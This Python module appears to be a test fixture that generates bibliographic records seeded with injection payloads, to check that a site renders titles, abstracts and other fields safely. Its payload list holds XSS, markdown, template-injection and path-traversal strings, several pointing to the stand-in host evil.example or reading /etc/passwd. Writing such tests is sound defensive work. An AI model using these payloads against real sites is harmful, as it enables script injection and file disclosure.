"""Texts that try to become markup, script or template code, and records that hold them."""

from __future__ import annotations

from itertools import product
from random import Random

#: Each runs ``pwned`` or leaves a trace in the page if anything takes it for code.
ATTACKS = (
    "<script>window.pwned = 1</script>", "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>", "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<object data=https://evil.example/x>",
    "<form action=https://evil.example/><button>Go</button></form>", "<details open ontoggle=pwned=1>",
    "<style>*{display:none}</style>", "<math><mtext></form><mglyph><img src onerror=pwned=1>",
    "<a href=javascript:window.pwned=1>x</a>", "javascript:window.pwned=1",
    "[x](javascript:window.pwned=1)", "![x](https://evil.example/x.png)", "[x]: javascript:pwned=1",
    "<javascript:window.pwned=1>", "[x](data:text/html,<script>pwned=1</script>)",
    "{{ config.__class__ }}", "{% raw %}{% endraw %}", "--8<-- '/etc/passwd'", "[TOC]",
    "{: onclick=window.pwned=1 }", "# x { onclick=window.pwned=1 }", "!!! note\n    text",
    "*[x]: <b onclick=pwned=1>", "[^1]: <b>note</b>", ":::python\nimport os",
    "$\\href{javascript:window.pwned=1}{x}$", "$$\\text{<img src=x onerror=pwned=1>}$$",
    "\\input{/etc/passwd}\\write18{id}%", "${window.pwned=1}", "`${window.pwned=1}`",
    "constructor", "__proto__", "toString", "../../../etc/passwd", "//evil.example/x", "\\\\evil\\x",
    "\u202egnp.exe\u202c", "\x00\x01\x1b[2J\x1b]0;x\x07", "\ud800", "\ufeff\u2028\u2029", "W" * 9_000,
    "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;img src=x onerror=pwned=1&#62;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
)  # fmt: skip
#: What could end the context that a template writes a text into.
ESCAPES = (
    "", '"', "'", '">', "'>", "`", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>",
    "\n\n", "\n    ", "> ", "- ", "| a | b |\n|--|--|\n| ", "\\", "}}", "%}",
)  # fmt: skip
TEXT_FIELDS = (
    "title", "abstract", "venue", "authors", "keywords", "tags", "affiliations", "id", "doi", "url",
    "pdf", "code", "arxiv_id", "date", "year", "comment", "language", "volume", "pages",
)  # fmt: skip
_LISTS = {"authors", "keywords", "tags", "affiliations"}
_WORDS = ("graph", "tree", "model", "language", "attention", "protein", "galaxy", "robot", "market")


def payloads() -> list[str]:
    """Return each attack after each escape."""
    return [escape + attack for escape, attack in product(ESCAPES, ATTACKS)]


def hostile_records(count: int, seed: int) -> list[dict[str, object]]:
    """Return records, most with a payload in one field, every fourth in several."""
    draw = Random(seed)
    texts = payloads()
    records = []
    for number in range(count):
        record: dict[str, object] = {
            "id": f"p{number}",
            "title": f"{' '.join(draw.choices(_WORDS, k=5)).capitalize()} {number}",
            "abstract": f"{' '.join(draw.choices(_WORDS, k=40)).capitalize()}.",
            "authors": ["Ann Lee", f"Bo {draw.choice(_WORDS).capitalize()}"],
            "year": 2000 + number % 25,
        }
        names = draw.sample(TEXT_FIELDS, 1 if number % 4 else 5)
        for name in names:
            text = f"{draw.choice(['', 'Graphs '])}{draw.choice(texts)}"
            record[name] = [text] if name in _LISTS else text
        records.append(record)
    return records
